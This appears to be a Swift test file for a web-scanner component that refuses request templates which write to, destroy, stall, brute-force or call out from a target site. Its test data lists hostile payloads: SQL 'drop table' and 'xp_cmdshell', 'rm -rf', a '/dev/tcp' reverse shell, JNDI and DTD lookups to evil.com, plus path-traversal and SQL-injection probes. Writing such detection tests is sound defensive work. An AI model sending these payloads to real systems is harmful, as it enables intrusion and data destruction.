import Testing

@testable import Engines

@Suite("What a template may do") struct TemplateConductTests {
  private static let matchers = "\n    matchers: [{type: status, status: [200]}]"

  /// Kinds of what stands against a block, with the reasons.
  private func refusals(_ block: String, about: String = "") throws -> [String] {
    try TemplateBench.read(block + Self.matchers, about: about).refusals.map { "\($0.kind.rawValue): \($0.reason)" }
  }

  @Test("every rule about words is there")
  func rules() { #expect(HarmfulWords.rules.count == HarmfulWords.ruleCount) }

  @Test(
    "methods that write are refused whatever the operator allows; POST he may allow",
    arguments: ["PUT", "DELETE", "PATCH", "MKCOL", "MOVE", "COPY", "PROPPATCH", "LOCK", "put"])
  func writes(method: String) throws {
    let template = try TemplateBench.read("  - method: \(method)\n    path: [/]" + Self.matchers)
    #expect(template.refusals.map(\.kind) == [.writes])
    #expect(template.refusals.first?.reason == "\(method.uppercased()) changes what is on the site")
    #expect(template.refusals(allowing: ["a-check"]).count == 1)
    let raw = try TemplateBench.read("  - raw: ['\(method) / HTTP/1.1']" + Self.matchers)
    #expect(raw.refusals.map(\.kind) == [.writes])
  }

  @Test("methods that are not known to write may be allowed by name")
  func others() throws {
    #expect(try refusals("  - method: POST\n    path: [/]") == ["posts: POST may change what is on the site"])
    #expect(
      try refusals("  - method: TRACE\n    path: [/]") == ["unusualMethod: TRACE is no method that a visitor uses"])
    #expect(
      try refusals("  - method: CONNECT\n    path: [/]") == ["callsOutside: CONNECT makes the site call another host"])
    #expect(
      try refusals("  - method: '{{m}}'\n    path: [/]\n    payloads: {m: [GET]}")
        == ["unusualMethod: its method is only known when it runs"])
    for method in ["GET", "HEAD", "OPTIONS"] { #expect(try refusals("  - method: \(method)\n    path: [/]").isEmpty) }
    let template = try TemplateBench.read("  - method: POST\n    path: [/]" + Self.matchers)
    #expect(template.refusals(allowing: ["another"]).count == 1)
    #expect(template.refusals(allowing: ["a-check"]).isEmpty)
    #expect(
      template.refusals[0].description
        == "a.yaml:8:12: refused: POST may change what is on the site (may be allowed by the template's id)")
  }

  @Test(
    "words that change, stop or stall a site are refused, however they are written",
    arguments: [
      ("/?q=1;drop table users", "harmfulWords: SQL that deletes"),
      ("/?q=1%3bDROP%20TABLE%20x", "harmfulWords: SQL that deletes"),
      ("/?q=1;drop/**/table/**/x", "harmfulWords: SQL that deletes"),
      ("/?q=delete+from+a", "harmfulWords: SQL that deletes"),
      ("/?q=%2564elete%2520from%2520a", "harmfulWords: SQL that deletes"),
      ("/?q=insert into a values(1)", "harmfulWords: SQL that writes"),
      ("/?q=update a set b=1", "harmfulWords: SQL that writes"),
      ("/?q=create user x", "harmfulWords: SQL that changes the database"),
      ("/?q=1 into outfile '/tmp/a'", "harmfulWords: SQL that writes a file"),
      ("/?q=exec xp_cmdshell 'dir'", "harmfulWords: SQL that runs a command"),
      ("/?c=rm -rf /tmp", "harmfulWords: a shell command that deletes"),
      ("/?c=rm${IFS}-rf", "harmfulWords: a shell command that deletes"),
      ("/?c=mkfs.ext4 /dev/sda", "harmfulWords: a shell command that overwrites a disk"),
      ("/?c=echo a > /var/www/x", "harmfulWords: a shell command that writes a file"),
      ("/?c=touch /tmp/x", "harmfulWords: a shell command that writes a file"),
      ("/?c=chmod 777 x", "harmfulWords: a shell command that changes files"),
      ("/?c=useradd x", "harmfulWords: a command that changes accounts or services"),
      ("/actuator/shutdown", "harmfulWords: it would stop the service"),
      ("/?c=kill -9 1", "harmfulWords: it would stop the service"),
      ("/?p=file_put_contents('a','b')", "harmfulWords: a script that writes or deletes files"),
      ("/?p=new FileOutputStream(a)", "harmfulWords: a script that writes or deletes files"),
      ("/?c=flushall", "harmfulWords: a command that empties a store"),
      ("/index.php?action=delete&id=1", "harmfulWords: a parameter that asks for a change"),
      ("/?_method=DELETE", "writes: a parameter makes the request a PUT, PATCH or DELETE"),
      ("/?c=wget http-file", "callsOutside: a command that calls a host"),
      ("/?c=;curl -s x", "callsOutside: a command that calls a host"),
      ("/?c=|ping -c 1 a", "callsOutside: a command that calls a host"),
      ("/?c=nslookup a.b", "callsOutside: a command that calls a host"),
      ("/?c=bash -i >%26 /dev/tcp/1.2.3.4/5", "callsOutside: a command that calls a host"),
      ("/?q=utl_http.request(a)", "callsOutside: a database that calls a host"),
      ("/?q=benchmark(1,md5(1))", "stalls: it makes the database reckon"),
      ("/?q=sleep(8)", "stalls: it makes the site wait for more than 7 seconds"),
      ("/?q=pg_sleep(100)", "stalls: it makes the site wait for more than 7 seconds"),
      ("/?q=sleep(99999999999999999999)", "stalls: it makes the site wait for more than 7 seconds"),
      ("/?q=waitfor delay '0:0:9'", "stalls: it makes the site wait for more than 7 seconds"),
      ("/?q=waitfor delay '0:1:0'", "stalls: it makes the site wait for more than 7 seconds"),
      ("/?q=dbms_lock.sleep(20)", "stalls: it makes the site wait for more than 7 seconds"),
      ("/?u=http://evil.com/a", "callsOutside: it names the host evil.com, which is not the target"),
      ("/?u=http%3A%2F%2Fevil.com", "callsOutside: it names the host evil.com, which is not the target"),
      ("/?u=${jndi:ldap://evil.com/a}", "callsOutside: it names the host evil.com, which is not the target"),
      ("/?u=gopher://localhost/x", "callsOutside: it names the host localhost, which is not the target"),
      (
        "/?u=http://{{Hostname}}@evil.com",
        "callsOutside: it names the host {{hostname}}@evil.com, which is not the target"
      ),
      ("/?u={{interactsh-url}}", "callsOutside: {{interactsh-url}} makes the site call a host outside"),
    ])
  func words(path: String, refusal: String) throws {
    let quoted = path.replacing("'", with: "''")
    #expect(try refusals("  - path: ['\(quoted)']") == [refusal], "\(path)")
    #expect(try refusals("  - path: ['/{{p}}']\n    payloads: {p: ['\(quoted)']}") == [refusal], "payload \(path)")
    let header = try refusals("  - path: [/]\n    headers: {X-A: '\(quoted)'}")
    #expect(header == [refusal], "header \(path)")
  }

  @Test(
    "what only reads is not refused",
    arguments: [
      "/etc/passwd", "/?file=../../../../etc/passwd", "/?id=1' and '1'='1", "/?q=1 union select null,version()--",
      "/?q=sleep(5)",
      "/?q=waitfor delay '0:0:5'", "/.git/config", "/wp-admin/admin-ajax.php?action=list", "/?c=id",
      "/?c=cat /etc/passwd",
      "/search?q=update settings", "/?u=https://vigil.invalid/", "/?u=//x.test", "/?u=http://localhost:8080/",
      "/?u=file:///etc/passwd",
      "/?u=http://{{Hostname}}/", "/dropbox/table", "/insert.html", "/delete-account", "/ping", "/host", "/updates/set",
      "/?a=%",
      "/?x=<script>alert(1)</script>", "/benchmarks", "/?x=${7*7}", "/?s={{randstr}}",
    ])
  func harmless(path: String) throws {
    #expect(try refusals("  - path: ['\(path.replacing("'", with: "''"))']") == [], "\(path)")
  }

  @Test("what base64 or hexadecimal hides in an expression is seen")
  func hidden() throws {
    let rows = [
      "{{base64_decode('ZHJvcCB0YWJsZSB1c2Vycw==')}}", "{{hex_decode('64726f70207461626c65207573657273')}}",
      "{{base64('drop table users')}}",
    ]
    for text in rows {
      #expect(try refusals("  - path: [\"/?q=\(text)\"]") == ["harmfulWords: SQL that deletes"], "\(text)")
    }
    let template = try TemplateBench.read(
      "  - path: ['/{{a}}']" + Self.matchers, above: "variables: {a: drop table x}\n")
    #expect(
      template.refusals.map(\.description) == [
        "a.yaml:6:16: refused: SQL that deletes (may be allowed by the template's id)"
      ])
  }

  @Test("what calls another host is refused in every field but those that say where one comes from")
  func fields() throws {
    func header(_ line: String) throws -> [String] { try refusals("  - path: [/]\n    headers: {\(line)}") }
    #expect(
      try header("Host: other.example.com") == ["callsOutside: its Host field asks for other.example.com, another site"]
    )
    for host in ["'{{Hostname}}'", "'{{Host}}:{{Port}}'", "x.invalid"] {
      #expect(try header("Host: \(host)") == [], "\(host)")
    }
    #expect(try header("Origin: https://evil.com") == [])
    #expect(try header("Referer: https://evil.com/a") == [])
    #expect(
      try header("X-Forwarded-Host: https://evil.com") == [
        "callsOutside: it names the host evil.com, which is not the target"
      ])
    #expect(try header("User-Agent: 'x (+http://www.bot.com/)'") == [])
    #expect(
      try header("X-HTTP-Method-Override: DELETE") == [
        "writes: the field x-http-method-override makes the request a DELETE"
      ])
    #expect(try header("X-HTTP-Method-Override: GET") == [])
  }

  @Test("a form that uploads a file, and a body of entities that grow, are refused")
  func bodies() throws {
    let upload = """
      - raw:
          - |
            POST / HTTP/1.1
            Content-Type: multipart/form-data; boundary=b

            --b
            Content-Disposition: form-data; name="f"; filename="a.php"

            x
            --b--
      """
    let lines = upload.split(separator: "\n", omittingEmptySubsequences: false)
    #expect(
      try refusals(lines.map { $0.isEmpty ? "" : "  \($0)" }.joined(separator: "\n")) == [
        "posts: POST may change what is on the site", "uploads: a file in a form",
      ])
    let entities = "<!ENTITY a \\\"b\\\">"
    #expect(
      try refusals("  - path: [/]\n    body: \"\(String(repeating: entities, count: 4))\"")
        == ["floods: entities that grow when they are read"])
    #expect(try refusals("  - path: [/]\n    body: '<a xmlns=\"http://www.w3.org/1999/xhtml\"/>'") == [])
    #expect(
      try refusals("  - path: [/]\n    body: '<!DOCTYPE a SYSTEM \"http://evil.com/a.dtd\">'")
        == ["callsOutside: it names the host evil.com, which is not the target"])
  }

  @Test("brute force and floods are counted")
  func counts() throws {
    func list(_ count: Int) -> String { "[" + (0..<count).map { "'\($0)'" }.joined(separator: ", ") + "]" }
    #expect(try refusals("  - path: ['/{{a}}']\n    payloads: {a: \(list(50))}") == [])
    #expect(
      try refusals("  - path: ['/{{a}}']\n    payloads: {a: \(list(51))}")
        == ["bruteForce: its payloads make 51 rounds, over 50"])
    #expect(
      try refusals("  - path: ['/{{a}}{{b}}']\n    attack: clusterbomb\n    payloads: {a: \(list(8)), b: \(list(8))}")
        == ["bruteForce: its payloads make 64 rounds, over 50"])
    #expect(try refusals("  - path: ['/{{pass}}']\n    payloads: {pass: \(list(3))}") == [])
    #expect(
      try refusals("  - path: ['/{{pass}}']\n    payloads: {pass: \(list(4))}")
        == ["bruteForce: it tries 4 names or passwords, over 3: accounts may be locked"])
    let paths = (0..<3).map { "/\($0)/{{a}}" }
    #expect(
      try refusals("  - path: ['\(paths.joined(separator: "', '"))']\n    payloads: {a: \(list(40))}")
        == ["floods: it asks 120 requests, over 100"])
    #expect(
      try refusals("  - path: [/]", about: "  tags: cve,dos\n") == [
        "floods: its tag dos says that it overloads what it asks"
      ])
  }

  @Test("matchers that wait for a call from outside are refused")
  func callbacks() throws {
    let template = try TemplateBench.read(
      "  - path: [/]\n    matchers: [{type: word, part: interactsh_protocol, words: [dns]}]")
    #expect(
      template.refusals.map(\.description) == [
        "a.yaml:8:16: refused: it waits for a call from outside (interactsh_protocol)"
      ])
  }

  @Test("words that only come together while it runs are not sent either")
  func composed() throws {
    let template = try TemplateBench.read(
      "  - path: ['/?q={{a}}{{b}}']" + Self.matchers, above: "variables: {a: 'dro', b: 'p table x'}\n")
    #expect(template.refusals.isEmpty)
    var run = TemplateRun(template, target: TemplateBench.target, random: 1, now: TemplateBench.now)
    #expect(run.next() == nil)
    #expect(run.verdict == .notDetermined("the request is not asked: SQL that deletes"))
    var allowed = TemplateRun(
      template, target: TemplateBench.target, random: 1, now: TemplateBench.now, isAllowed: true)
    #expect(allowed.next()?.path == "/?q=drop%20table%20x")
    let method = try TemplateBench.read(
      "  - method: '{{m}}'\n    path: [/]\n    payloads: {m: [DELETE]}" + Self.matchers)
    var deleting = TemplateRun(method, target: TemplateBench.target, random: 1, now: TemplateBench.now, isAllowed: true)
    #expect(deleting.next() == nil)
    #expect(deleting.verdict == .notDetermined("the request is not asked: DELETE changes what is on the site"))
  }

  @Test("a long text full of half-written comments costs no more than its length")
  func longTexts() {
    let clock = ContinuousClock()
    let start = clock.now
    for text in ["/*", "/**/", "${IFS}", "$IFS", "%", "http://", "sleep(", "<!ENTITY "] {
      _ = ConductRules.words(in: String(repeating: text, count: 200_000 / text.count))
      _ = OutsideAddresses.first(in: String(repeating: text, count: 200_000 / text.count))
    }
    #expect(clock.now - start < .seconds(60))
  }
}
